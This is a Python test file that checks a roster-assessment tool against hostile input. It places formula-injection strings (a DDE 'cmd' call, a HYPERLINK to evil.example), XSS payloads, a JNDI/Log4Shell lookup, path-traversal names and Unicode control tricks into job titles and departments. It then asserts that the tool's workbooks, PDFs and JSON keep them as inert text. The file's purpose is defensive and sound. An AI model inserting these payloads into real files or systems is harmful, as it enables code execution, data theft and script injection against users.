"""Text of a roster stays text: no formula, no markup, no path, whatever a title or a ward says."""

import json
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest
from samples.files import WRITERS, Page

ROOT = Path(__file__).parent.parent
FORMULAS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","Click")', "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=2+2", "＝1+1",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>Nurse</b> & <i>co</i>",
    "</para></document>", "]]> <![CDATA[", "&#60;b&#62; &amp; &nbsp;", "{file} {0} %s %(x)s",
    "${jndi:ldap://evil.example/a}", "**bold** _it_ `code`",
)  # fmt: skip
PATHS = ("../../evil", "..\\..\\evil", "/etc/evil", "C:\\evil", "CON", "NUL.txt", "a\x00b", "...")
LETTERS = (
    "Nurse \u202eesruN", "Nur\u200bse\u200d \ufeffaide", "N\u0301\u0301\u0301urse", "护士 👩🏽‍⚕️",
    "\u2066Ward\u2069 clerk", "Line\u2028two", "\ufffe\uffff clerk", "Nurse\x07\x1b[31m red",
)  # fmt: skip
HOSTILE = (*FORMULAS, *MARKUP, *PATHS, *LETTERS)
HEAD = ("Job title", "<b>Department</b>", "FTE", '=HYPERLINK("http://evil.example")')


def rows():
    """Every hostile text as a title of six people, and as a department of six."""
    for text in HOSTILE:
        yield from ((f"Nurse {text}", "Ward 4", 1, "x") for _ in range(6))
        yield from ((text, "Ward 4", 1, "x") for _ in range(6))
        yield from (("Staff Nurse", text, 1, "x") for _ in range(6))


def assess(path, out):
    return subprocess.run(
        [sys.executable, "-m", "desktop", "assess", path, "--out", out, "--json", "--workbook",
         "--date", "2026-11-24", "--documents", "AG"],
        cwd=ROOT, capture_output=True, check=False,
    )  # fmt: skip


@pytest.fixture(scope="module", params=["csv", "xlsb"])
def done(request, tmp_path_factory):
    folder = tmp_path_factory.mktemp("injected")
    path = folder / f"roster.{request.param}"
    page = Page("=1+1 <b>../..", (HEAD, *rows()))
    WRITERS[request.param]((page,), path)
    ended = assess(path, folder / "out")
    assert ended.returncode == 0, ended.stderr.decode()
    return ended, folder


def test_nothing_is_written_outside_of_the_folder_and_names_are_safe(done):
    _, folder = done
    assert {path.name for path in folder.iterdir()} == {"out", *(p.name for p in folder.glob("r*"))}
    written = [path.relative_to(folder / "out") for path in (folder / "out").rglob("*")]
    assert len(written) > 20
    reserved = {"con", "nul", "prn", "aux"}
    for path in written:
        for part in path.parts:
            assert not set('<>:"|?*\\\0') & set(part), part
            assert not any(unicodedata.category(letter) == "Cc" for letter in part), part
            assert part.split(".")[0].strip().lower() not in reserved, part
            assert part == part.strip(" .") or part.endswith(".pdf"), part


def test_the_workbook_holds_no_formula_and_no_link(done):
    _, folder = done
    (path,) = (folder / "out").glob("*.xlsx")
    with zipfile.ZipFile(path) as package:
        sheets = [name for name in package.namelist() if "/worksheets/" in name]
        for name in sheets:
            xml = package.read(name)
            assert b"<f>" not in xml, name
            assert b"<f " not in xml, name
            assert b"<hyperlink" not in xml.lower(), name
        assert not [name for name in package.namelist() if "external" in name.lower()]
    texts = 0
    for sheet in openpyxl.load_workbook(path, data_only=False):
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", cell.coordinate
                texts += isinstance(cell.value, str)
    assert texts > 20


def test_the_pages_show_markup_as_letters_and_link_nowhere(done):
    _, folder = done
    pdfs = sorted((folder / "out").rglob("*.pdf"))
    said = ""
    for path in pdfs:
        data = path.read_bytes()
        assert b"/JavaScript" not in data, path
        assert b"/Launch" not in data, path
        assert b"evil.example" not in data.split(b"stream")[0], path
    for path in (folder / "out").rglob("A-*.pdf"):
        said += subprocess.run(["pdftotext", "-raw", path, "-"], capture_output=True, text=True,
                               check=True).stdout  # fmt: skip
    flat = "".join(said.split())
    for text in ("<script>alert(1)</script>", "<b>Nurse</b>", "=cmd|'/Ccalc'!A0", "{file}{0}%s"):
        assert text in flat, text


def test_the_answer_is_plain_ascii_with_every_text_as_it_stands(done):
    ended, _ = done
    assert ended.stdout.isascii()
    answer = json.loads(ended.stdout)
    titles = {t for d in answer["departments"] for r in d["roles"] for t in r["titles"]}
    assert any("<script>alert(1)</script>" in title for title in titles)
    assert any(title.startswith("=cmd|") for title in titles)
    assert b"\x1b" not in ended.stderr
    assert b"Traceback" not in ended.stderr


def test_half_a_letter_is_no_letter_and_ends_nothing(tmp_path):
    """UTF-16 of which one half was lost, as only a broken export has it."""
    path = tmp_path / "roster.xlsb"
    lines = [("Staff Nurse \ud83d", "Ward \udc00", 1)] * 6
    WRITERS["xlsb"]((Page("Staff", (("Job title", "Department", "FTE"), *lines)),), path)
    ended = assess(path, tmp_path / "out")
    assert ended.returncode == 0, ended.stderr.decode()
    assert json.loads(ended.stdout)["people"] == 6
    wide = tmp_path / "roster.txt"
    text = "Job title\tDepartment\r\n" + "Staff Nurse \ud83d\tWard \udc00\r\n" * 6
    wide.write_bytes(b"\xff\xfe" + text.encode("utf-16-le", errors="surrogatepass"))
    ended = assess(wide, tmp_path / "out2")
    assert ended.returncode == 0, ended.stderr.decode()
